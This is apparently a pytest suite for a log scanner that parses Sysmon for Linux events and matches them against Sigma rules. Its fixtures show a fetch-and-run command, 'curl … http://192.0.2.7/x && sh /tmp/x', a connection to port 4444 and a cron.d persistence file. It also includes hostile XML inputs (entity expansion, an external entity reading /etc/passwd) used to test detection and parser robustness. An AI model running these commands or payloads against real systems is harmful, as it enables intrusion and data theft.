"""Sysmon for Linux: its events in lines of syslog answer what Sigma's rules for Linux ask."""

from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kyber.logs.formats.linux import LONGEST_MESSAGE, read_message
from kyber.logs.formats.linux_sysmon import read_sysmon
from kyber.logs.inputs import Input
from kyber.logs.scan import Job, scan
from kyber.logs.sigma.rule import read_rules

NOW = datetime(2026, 3, 4, 12, tzinfo=UTC)
PROCESS = {
    "RuleName": "-",
    "UtcTime": "2026-03-04 10:15:30.123",
    "ProcessGuid": "{a8fa4b5d-0db4-6854-8d8e-0c28645d0000}",
    "ProcessId": "8246",
    "Image": "/usr/bin/curl",
    "CommandLine": "curl -o /tmp/x http://192.0.2.7/x && sh /tmp/x <&1",
    "CurrentDirectory": "/root",
    "User": "root",
    "LogonId": "0",
    "ParentProcessId": "8240",
    "ParentImage": "/usr/bin/dash",
    "ParentCommandLine": "sh -c 'curl …'",
}
CONNECTION = {
    "UtcTime": "2026-03-04 10:15:31.000",
    "ProcessId": "8246",
    "Image": "/usr/bin/curl",
    "User": "root",
    "Protocol": "tcp",
    "Initiated": "true",
    "SourceIp": "198.51.100.4",
    "SourcePort": "50123",
    "DestinationIp": "192.0.2.7",
    "DestinationHostname": "-",
    "DestinationPort": "4444",
}
FILE = {"UtcTime": "2026-03-04 10:15:32.000", "Image": "/usr/bin/curl", "TargetFilename": "/etc/cron.d/x"}


def xml(number: int, data: Mapping[str, str]) -> str:
    values = "".join(f'<Data Name="{name}">{escape(value)}</Data>' for name, value in data.items())
    return (
        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        f"<EventID>{number}</EventID><Version>5</Version><Level>4</Level><Correlation/>"
        '<TimeCreated SystemTime="2026-03-04T10:15:30.123456000Z"/><Execution ProcessID="411" ThreadID="411"/>'
        "<Channel>Linux-Sysmon/Operational</Channel><Computer>gw-1</Computer></System>"
        f"<EventData>{values}</EventData></Event>"
    )


def told(message: str) -> dict[str, object]:
    """What an event says, without the prefix of its names."""
    fields = read_message("sysmon", message)
    return {name.removeprefix("linux.sysmon."): value for name, value in fields.items()}


# --- one message -----------------------------------------------------------------------------------------------------


def test_an_event_gives_its_data_by_name_and_what_its_header_says() -> None:
    found = told(xml(1, PROCESS))
    assert found == PROCESS | {
        "EventID": 1,
        "Version": "5",
        "Level": "4",
        "Channel": "Linux-Sysmon/Operational",
        "Computer": "gw-1",
        "ProcessId": 8246,
        "ParentProcessId": 8240,
        "event.action": "process_started",
        "event.category": "process",
    }


def test_other_messages_of_sysmon_are_left_as_they_are() -> None:
    assert read_sysmon("Sysmon started") is None
    assert read_message("sysmon", "<EventLog/>") == {}
    assert read_message("other", xml(1, PROCESS)) == {}


def test_data_cannot_pass_for_the_header_nor_for_other_columns() -> None:
    found = told(xml(1, {"EventID": "3", "../x": "a", "user.name": "b", "": "c", "Image": "d"}))
    assert (found["EventID"], found["Image"]) == (1, "d")
    assert not {"../x", "user.name", ""} & set(found)


def test_an_event_that_was_cut_gives_what_came_before() -> None:
    whole = xml(1, PROCESS)
    found = told(whole[: whole.index(" &amp;&amp;")])
    assert found["CommandLine"] == "curl -o /tmp/x http://192.0.2.7/x"
    assert (found["EventID"], found["Image"], "User" in found) == (1, "/usr/bin/curl", False)


def test_characters_that_xml_cannot_hold_hide_nothing() -> None:
    found = told(xml(1, PROCESS | {"CommandLine": "sh \x1b[2K\x00\uffff evil"}))
    assert found["CommandLine"] == "sh \ufffd[2K\ufffd\ufffd evil"
    assert found["User"] == "root"


@pytest.mark.parametrize(
    "message",
    [
        '<!DOCTYPE Event [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Event><System>&b;</System></Event>',
        '<Event><!DOCTYPE x SYSTEM "file:///etc/passwd"></Event>',
        "<Event>" + "<a>" * 9_000,
        "<Event><System><EventID>" + "1" * 60_000,
        "<Event " * 5_000,
    ],
)
def test_hostile_xml_is_not_followed(message: str) -> None:
    assert len(message) <= LONGEST_MESSAGE
    assert "root:" not in str(read_message("sysmon", message))
    assert len(str(read_message("sysmon", message))) < LONGEST_MESSAGE


@given(st.text(max_size=40), st.integers(0, 700), st.integers(0, 9))
def test_whatever_happens_to_a_message_it_is_read_without_an_error(put: str, at: int, length: int) -> None:
    whole = xml(1, PROCESS)
    fields = read_message("sysmon", whole[:at] + put + whole[at + length :])
    assert all(name.startswith(("linux.sysmon.", "event.")) for name in fields)


# --- rules -----------------------------------------------------------------------------------------------------------

LINES = (
    "Mar  4 10:15:29 gw-1 sshd[9]: Accepted password for root from 192.0.2.7 port 50123 ssh2",
    *(
        f"Mar  4 10:15:3{at} gw-1 sysmon[411]: {xml(number, data)}"
        for at, (number, data) in enumerate([(1, PROCESS), (3, CONNECTION), (11, FILE)])
    ),
    "Mar  4 10:15:39 gw-1 sysmon[411]: Sysmon is restarting",
)


def found_by(tmp_path: Path, logsource: str, *detection: str) -> list[dict[str, object]]:
    """The samples of what a rule for Linux finds in the lines."""
    rule = tmp_path / "rule.yml"
    body = "\n".join(f"        {one}" for one in detection)
    rule.write_text(
        "title: t\nid: 7f0b1a52-6f0c-4a0f-9a4e-3d1f0c7a5b11\n"
        f"logsource:\n    product: linux\n    {logsource}\n"
        f"detection:\n    part:\n{body}\n    condition: part\n",
        encoding="utf-8",
    )
    log = tmp_path / "syslog"
    log.write_text("\n".join(LINES) + "\n", encoding="utf-8")
    given = Input(str(log), log, log.stat().st_size, NOW)
    result = scan([Job(source="s", inputs=[given], zone=UTC)], read_rules([str(rule)], {}), NOW)
    assert not result.blind
    assert [(one.format, one.events, one.rejected) for one in result.inputs] == [("syslog", len(LINES), {})]
    return [
        dict(one.sample.fields) | {"": one.count, "record": one.sample.record, "time": one.sample.time}
        for one in result.findings
    ]


@pytest.mark.parametrize(
    ("logsource", "detection", "record"),
    [
        (
            "category: process_creation",
            ("Image|endswith: /curl", "CommandLine|contains: '&& sh'", "ParentImage|endswith: /dash", "User: root"),
            2,
        ),
        ("category: process_creation", ("CurrentDirectory: /root", "LogonId: 0"), 2),
        (
            "category: network_connection",
            ("Initiated: 'true'", "DestinationIp|cidr: 192.0.2.0/24", "DestinationPort: 4444", "Image|endswith: curl"),
            3,
        ),
        ("category: file_event", ("TargetFilename|startswith: /etc/cron.d/",), 4),
        ("service: sysmon", ("EventID: 11",), 4),
        ("service: sshd", ("user.name: root",), 1),
    ],
)
def test_a_rule_for_linux_finds_its_event_and_no_other(
    tmp_path: Path, logsource: str, detection: tuple[str, ...], record: int
) -> None:
    (found,) = found_by(tmp_path, logsource, *detection)
    assert (found[""], found["record"]) == (1, record)


def test_an_event_tells_of_its_process_at_its_own_time(tmp_path: Path) -> None:
    (found,) = found_by(tmp_path, "category: process_creation", "Image|endswith: /curl")
    assert found["process.executable"] == "/usr/bin/curl"
    assert found["process.command_line"] == PROCESS["CommandLine"]
    assert found["user.name"] == "root"
    assert found["time"] == datetime(2026, 3, 4, 10, 15, 30, 123_000, tzinfo=UTC)
